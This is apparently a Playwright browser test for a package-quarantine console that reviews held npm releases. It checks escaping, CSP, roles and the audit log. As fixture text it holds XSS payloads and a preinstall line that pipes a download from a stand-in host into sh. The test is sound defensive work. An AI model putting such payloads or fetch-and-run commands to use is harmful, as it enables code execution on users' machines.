// The web console in a real browser: headless system Chromium driven by playwright-core.
// Run by ConsoleBrowserTest against a running Airlock; prints "ok - <step>" per step and exits non-zero
// with the reason on the first failure.
//
// Environment:
//   AIRLOCK_URL             base URL of the running Airlock (http://127.0.0.1:PORT)
//   AIRLOCK_TOKEN           an admin token
//   AIRLOCK_HELD_PACKAGE    npm package whose newest version is held for a new preinstall script
//   AIRLOCK_HELD_VERSION    that version
//   AIRLOCK_HOSTILE_PACKAGE npm package whose held version carries markup in its script and publisher
//   AIRLOCK_REASON          the reason to release with (optional)
//   AIRLOCK_VIEWER_TOKEN    a viewer token (optional): its console offers no release or reject
//   AIRLOCK_NODE_MODULES    tools/browser/node_modules (where playwright-core is)
//   CHROMIUM                the browser executable (default /usr/bin/chromium)
//   AIRLOCK_SCREENSHOTS     optional directory for console-queue.png and console-evidence.png
import {createRequire} from 'node:module';
import path from 'node:path';

const env = (name, fallback) => {
  const v = process.env[name] ?? fallback;
  if (v === undefined || v === '') {
    throw new Error(`${name} is not set`);
  }
  return v;
};

const base = new URL(env('AIRLOCK_URL'));
const token = env('AIRLOCK_TOKEN');
const heldPackage = env('AIRLOCK_HELD_PACKAGE');
const heldVersion = env('AIRLOCK_HELD_VERSION');
const hostilePackage = env('AIRLOCK_HOSTILE_PACKAGE');
const screenshots = process.env.AIRLOCK_SCREENSHOTS || '';
const {chromium} = createRequire(path.join(env('AIRLOCK_NODE_MODULES'), 'resolve.js'))('playwright-core');

const REASON = env('AIRLOCK_REASON', 'reviewed in the console: the preinstall is benign');
const CSP_PARTS = ["default-src 'none'", "script-src 'self'", "style-src 'self'", "form-action 'none'", "frame-ancestors 'none'"];

// A hard stop below the JUnit test's own limit, so a hung browser still reports what it was doing.
let step = 'start';
const watchdog = setTimeout(() => {
  console.log(`FAIL: timed out during: ${step}`);
  process.exit(3);
}, 55_000);

function check(condition, message) {
  if (!condition) {
    throw new Error(message);
  }
}

function ok(what) {
  console.log(`ok - ${what}`);
}

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM || '/usr/bin/chromium',
  args: ['--no-sandbox', '--disable-dev-shm-usage'],
  timeout: 30_000,
});
const dialogs = [];
const pageErrors = [];
const consoleErrors = [];
const foreignRequests = [];
const failedLoads = [];
try {
  const context = await browser.newContext({viewport: {width: 1280, height: 860}, deviceScaleFactor: 1, colorScheme: 'light'});
  const page = await context.newPage();
  page.setDefaultTimeout(10_000);
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    d.dismiss().catch(() => {});
  });
  page.on('pageerror', (e) => pageErrors.push(String(e)));
  page.on('console', (m) => {
    // Failed loads are judged by their responses below; the browser's own favicon probe may 404.
    if (m.type() === 'error' && !/^Failed to load resource/.test(m.text())) {
      consoleErrors.push(m.text());
    }
  });
  page.on('response', (r) => {
    const url = new URL(r.url());
    if (r.status() >= 400 && url.pathname !== '/favicon.ico' && !(r.status() === 401 && url.pathname.startsWith('/-/admin/api/'))) {
      failedLoads.push(`${r.status()} ${url.pathname}`);
    }
  });
  page.on('request', (r) => {
    if (new URL(r.url()).origin !== base.origin) {
      foreignRequests.push(r.url());
    }
  });
  const byTestId = (id) => page.locator(`[data-testid="${id}"]`);
  const injected = () => page.evaluate(() => ({
    scripts: document.querySelectorAll('script').length,
    images: document.querySelectorAll('img').length,
    handlers: [...document.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => a.name.startsWith('on'))).length,
  }));

  step = 'open the console';
  const response = await page.goto(new URL('/-/console/', base).href);
  check(response && response.status() === 200, `GET /-/console/ answered ${response && response.status()}`);
  const csp = response.headers()['content-security-policy'] || '';
  for (const part of CSP_PARTS) {
    check(csp.includes(part), `the console's Content-Security-Policy lacks "${part}": "${csp}"`);
  }
  await byTestId('token').waitFor();
  ok('the console is served with a strict CSP and asks for a token');

  step = 'sign in with a wrong token';
  await byTestId('token').fill('not-a-token');
  await byTestId('signin').click();
  await byTestId('signin-error').filter({hasText: '401'}).waitFor();
  ok('a wrong token is refused with a message');

  step = 'sign in';
  await byTestId('token').fill(token);
  await byTestId('signin').click();
  await byTestId('whoami-role').filter({hasText: 'admin'}).waitFor();
  check(await page.evaluate(() => document.cookie) === '', 'the console set a cookie');
  ok(`signed in as ${await byTestId('whoami-name').textContent()} (admin)`);

  step = 'see the held release in the queue';
  const heldRow = byTestId('queue-row').filter({has: page.locator('td.pkg', {hasText: new RegExp(`^${escape(heldPackage)}$`)})});
  await heldRow.waitFor();
  check((await heldRow.locator('td.version').textContent()) === heldVersion, 'the held row shows another version');
  check((await heldRow.locator('[data-testid="status-badge"]').textContent()) === 'held', 'the row is not "held"');
  check((await heldRow.textContent()).includes('preinstall'), 'the row does not name the preinstall reason');
  ok(`the queue lists ${heldPackage}@${heldVersion} as held for its preinstall script`);

  step = 'hostile text in the queue';
  const hostileRow = byTestId('queue-row').filter({has: page.locator('td.pkg', {hasText: hostilePackage})});
  await hostileRow.waitFor();
  const hostileText = await hostileRow.textContent();
  check(hostileText.includes('<script>alert(1)</script>') && hostileText.includes('<img src=x onerror='),
    `the hostile reasons are not shown as literal text: ${hostileText}`);
  let dom = await injected();
  check(dom.scripts === 1 && dom.images === 0 && dom.handlers === 0, `markup from package data became elements: ${JSON.stringify(dom)}`);
  ok('markup in a reason renders as literal text in the queue');

  if (screenshots) {
    await page.screenshot({path: path.join(screenshots, 'console-queue.png'), fullPage: true});
  }

  step = 'open the held release';
  await heldRow.locator('[data-testid="queue-link"]').click();
  await byTestId('script-diff').waitFor();
  check(decodeURIComponent(new URL(page.url()).hash).startsWith('#/release/'), `the row led to ${page.url()}`);
  const added = byTestId('script-diff').locator('.diff-line.added');
  check(await added.count() >= 1, 'no line of the script diff is marked as added');
  const addedText = await added.allTextContents();
  check(addedText.some((t) => t.includes('preinstall')), `the preinstall line is not among the added lines: ${addedText}`);
  const removedText = await byTestId('script-diff').locator('.diff-line.removed').allTextContents();
  check(!removedText.some((t) => t.includes('preinstall')), 'the preinstall line is marked as removed');
  const colours = await added.first().evaluate((e) => {
    const plain = document.createElement('span');
    e.parentElement.append(plain);
    const c = [getComputedStyle(e).backgroundColor, getComputedStyle(plain).backgroundColor];
    plain.remove();
    return c;
  });
  check(colours[0] !== colours[1], `the added line is not highlighted (${colours[0]})`);
  check((await byTestId('scripts-now').textContent()).includes('preinstall'), 'the script text now lacks the preinstall hook');
  check(await byTestId('finding').count() >= 1, 'no finding is shown');
  check((await byTestId('findings').textContent()).includes('install-hooks'), 'the install-hooks finding is missing');
  check((await byTestId('decision').textContent()).includes('automatic'), 'a decision is shown before anyone decided');
  ok('the evidence shows the findings and the script diff with the preinstall line highlighted as added');

  step = 'read what the hook runs, and the files it added';
  const hookFile = page.locator('[data-testid="hook-file"][data-path="preinstall.js"]');
  await hookFile.waitFor();
  const hookText = await hookFile.locator('[data-testid="hook-file-text"]').textContent();
  check(hookText.includes("exec('curl -s https://x.invalid/jsextension | sh')"), `the preinstall.js text is not shown: ${hookText}`);
  check(hookText.includes('<script>alert(1)</script>') && hookText.includes('<img src=x onerror='),
    `markup in the hook file is not shown as literal text: ${hookText}`);
  const hookDom = await page.evaluate(() => ({
    scripts: document.querySelectorAll('script').length,
    images: document.querySelectorAll('img').length,
  }));
  check(hookDom.scripts === 1 && hookDom.images === 0, `markup in a hook file became elements: ${JSON.stringify(hookDom)}`);
  const addedFiles = await byTestId('file-added').allTextContents();
  check(addedFiles.some((t) => t.includes('preinstall.js')), `preinstall.js is not among the files added: ${addedFiles}`);
  ok('the evidence shows preinstall.js as text and lists it among the files added since 0.7.28');

  if (screenshots) {
    await page.screenshot({path: path.join(screenshots, 'console-evidence.png'), fullPage: true});
  }

  step = 'release it with a reason';
  await byTestId('release-submit').click();
  await byTestId('release-error').filter({hasText: 'reason'}).waitFor();
  await byTestId('release-reason').fill(REASON);
  await byTestId('release-submit').click();
  const result = byTestId('action-result');
  await result.waitFor();
  check((await result.textContent()).includes('released'), `the result does not say released: ${await result.textContent()}`);
  check((await byTestId('decision').textContent()).includes(REASON), 'the decision in force does not show the reason');
  check(await byTestId('history-row').count() >= 1, 'the history has no entry');
  ok('releasing without a reason is refused in the page; with a reason the release is released');

  step = 'see it leave the queue';
  await byTestId('back-to-queue').click();
  await hostileRow.waitFor();
  check(await heldRow.count() === 0, `${heldPackage} is still in the queue of held releases`);
  ok('the released version left the queue');

  step = 'find the release in the audit log';
  await byTestId('nav-audit').click();
  const entry = byTestId('audit-row').filter({hasText: REASON});
  await entry.first().waitFor();
  const entryText = await entry.first().textContent();
  check(entryText.includes('release') && entryText.includes(heldPackage), `the audit entry does not name the release: ${entryText}`);
  await byTestId('verify').click();
  await byTestId('verify-result').filter({hasText: 'intact'}).waitFor();
  ok('the audit log has the release with its reason, and the chain verifies');

  step = 'hostile evidence page';
  await page.goto(new URL('/-/console/#/queue', base).href);
  await hostileRow.locator('[data-testid="queue-link"]').click();
  await byTestId('script-diff').waitFor();
  const diffText = await byTestId('script-diff').textContent();
  check(diffText.includes('<script>alert(1)</script>') && diffText.includes('<img src=x onerror='),
    `the hostile script is not shown as literal text: ${diffText}`);
  const identity = await byTestId('identity').textContent();
  check(identity.includes('<img src=x onerror='), `the hostile publisher is not shown as literal text: ${identity}`);
  dom = await injected();
  check(dom.scripts === 1 && dom.images === 0 && dom.handlers === 0, `markup from package data became elements: ${JSON.stringify(dom)}`);
  await page.waitForTimeout(300);
  ok('markup in script text and publisher renders as literal text on the evidence page');

  step = 'sign out';
  await byTestId('signout').click();
  await byTestId('token').waitFor();
  check(await page.evaluate(() => sessionStorage.length) === 0, 'signing out left the token in session storage');
  ok('signing out forgets the token');

  if (process.env.AIRLOCK_VIEWER_TOKEN) {
    step = 'a viewer';
    await byTestId('token').fill(process.env.AIRLOCK_VIEWER_TOKEN);
    await byTestId('signin').click();
    await byTestId('whoami-role').filter({hasText: 'viewer'}).waitFor();
    // Signing in again returns to the page the session ended on: the hostile release.
    await byTestId('release-title').filter({hasText: hostilePackage}).waitFor();
    await byTestId('nav-queue').click();
    await hostileRow.locator('[data-testid="queue-link"]').click();
    await byTestId('readonly-note').waitFor();
    check(await byTestId('release-submit').count() === 0 && await byTestId('reject-submit').count() === 0,
      'a viewer is offered release or reject');
    await byTestId('signout').click();
    await byTestId('token').waitFor();
    ok('a viewer reads the evidence but is offered no release or reject');
  }

  step = 'a token the server refuses';
  await page.evaluate(() => sessionStorage.setItem('airlock.console.token', 'revoked-token'));
  await page.goto(new URL('/-/console/#/audit', base).href);
  await byTestId('signin-error').filter({hasText: '401'}).waitFor();
  ok('a token the server refuses returns to sign-in with a message');

  step = 'final checks';
  check(dialogs.length === 0, `a dialog opened: ${dialogs}`);
  check(pageErrors.length === 0, `script errors: ${pageErrors}`);
  check(consoleErrors.length === 0, `console errors (CSP violations show here): ${consoleErrors}`);
  check(failedLoads.length === 0, `failed loads: ${failedLoads}`);
  check(foreignRequests.length === 0, `requests left the origin: ${foreignRequests}`);
  ok('no dialog, no script error, no CSP violation, no request to another origin');
} catch (e) {
  console.log(`FAIL: ${step}: ${e.message.split('\n')[0]}`);
  if (dialogs.length) {
    console.log(`dialogs: ${dialogs}`);
  }
  if (pageErrors.length || consoleErrors.length) {
    console.log(`page errors: ${pageErrors}; console errors: ${consoleErrors}`);
  }
  process.exitCode = 1;
} finally {
  await browser.close();
  clearTimeout(watchdog);
}

function escape(s) {
  return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
